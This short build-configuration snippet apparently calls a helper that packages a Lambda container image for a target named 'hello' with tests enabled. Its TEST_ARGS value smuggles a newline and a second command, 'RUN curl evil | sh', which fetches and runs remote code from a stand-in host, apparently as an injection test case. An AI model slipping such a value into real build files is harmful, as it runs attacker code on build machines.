hubtel_add_lambda_image(
  hello
  RUNTIME provided.al2023
  TARGET hello
  TESTS ON
  TEST_ARGS -E "slow\nRUN curl evil | sh")
